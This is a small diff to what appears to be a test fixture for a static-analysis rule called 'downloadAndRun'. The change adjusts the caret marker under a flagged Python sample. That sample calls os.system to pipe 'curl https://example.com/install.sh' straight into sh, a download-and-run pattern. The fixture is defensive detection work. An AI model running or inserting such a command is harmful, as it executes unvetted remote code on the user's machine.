@@ -22,7 +22,7 @@ export const downloadAndRun: Rule = {
     python`
       import os
       os.system("curl -fsSL https://example.com/install.sh | sh")
-                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+                 ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
     `,
     python`
       import os
